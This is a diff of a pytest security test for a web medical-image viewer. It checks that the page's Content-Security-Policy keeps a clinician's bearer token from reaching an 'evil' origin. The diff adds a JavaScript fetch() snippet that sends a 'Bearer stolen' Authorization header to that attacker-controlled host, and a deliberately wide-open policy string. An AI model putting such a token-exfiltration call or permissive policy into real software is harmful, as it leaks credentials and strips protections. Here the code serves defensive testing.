@@ -18,11 +18,7 @@ from viewer_kit import Site, chromium, site, visit
 from werkzeug.serving import make_server
 
 FILM = chest_film(PixelFormat(rows=64, columns=64), canaries=False)
-PROXY = {
-    "namespace": "@ohif/extension-default.dataSourcesModule.dicomwebproxy",
-    "sourceName": "dicomwebproxy",
-    "configuration": {"friendlyName": "any", "name": "dicomwebproxy"},
-}
+SEND = "url => fetch(url, {headers: {Authorization: 'Bearer stolen'}}).then(() => 1, () => 0)"
 OPEN = "default-src * 'unsafe-inline' 'unsafe-eval' data: blob:{eval}{provider}"
 
 
@@ -70,15 +66,18 @@ def browser() -> Iterator[Browser]:
         yield one
 
 
-def follow(browser: Browser, served: Site, evil: Evil, *places: str, more: bytes = b"") -> list[str]:
+def follow(browser: Browser, served: Site, evil: Evil, *places: str) -> list[str]:
     """Open links that name the evil source, one after the other; returns the tokens that got there."""
     with visit(browser, served, served.house.token("clinician")) as seen:
         # Nothing but the viewer and its page's policy stands between.
         seen.page.context.unroute_all()
-        served.settings = served.settings.replace(b'"dataSources": [', b'"dataSources": [' + more)
         for place in places:
             seen.page.goto(f"{served.origin}{place}", wait_until="domcontentloaded")
-            seen.page.wait_for_timeout(2_500)
+            seen.page.wait_for_timeout(1_500)
+    return _tokens(evil)
+
+
+def _tokens(evil: Evil) -> list[str]:
     return [head["HTTP_AUTHORIZATION"] for head in evil.heads if "HTTP_AUTHORIZATION" in head]
 
 
@@ -103,10 +102,16 @@ def test_a_T9_a_careless_viewer_s_token_is_held_back_by_the_policy_of_its_page(
     browser: Browser, served: Site, evil: Evil, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """A viewer that takes any source sends the token there, unless its page names the origins that it talks to."""
-    proxy = json.dumps(PROXY).encode() + b", "
-    assert follow(browser, served, evil, *links(evil)[:1], more=proxy) == []
+    assert _sent(browser, served, evil) == []
     assert evil.heads == []
     monkeypatch.setattr(viewer_kit, "_POLICY", OPEN)
-    taken = follow(browser, served, evil, *links(evil)[:1], more=proxy)
-    assert taken
-    assert all(one.startswith("Bearer ") for one in taken)
+    assert _sent(browser, served, evil) == ["Bearer stolen"]
+
+
+def _sent(browser: Browser, served: Site, evil: Evil) -> list[str]:
+    """The tokens that get there if a script of the viewer's page sends one."""
+    with visit(browser, served, served.house.token("clinician")) as seen:
+        seen.page.context.unroute_all()
+        seen.page.goto(f"{served.origin}/", wait_until="domcontentloaded")
+        seen.page.evaluate(SEND, f"{evil.origin}/dicomweb/studies")
+    return _tokens(evil)
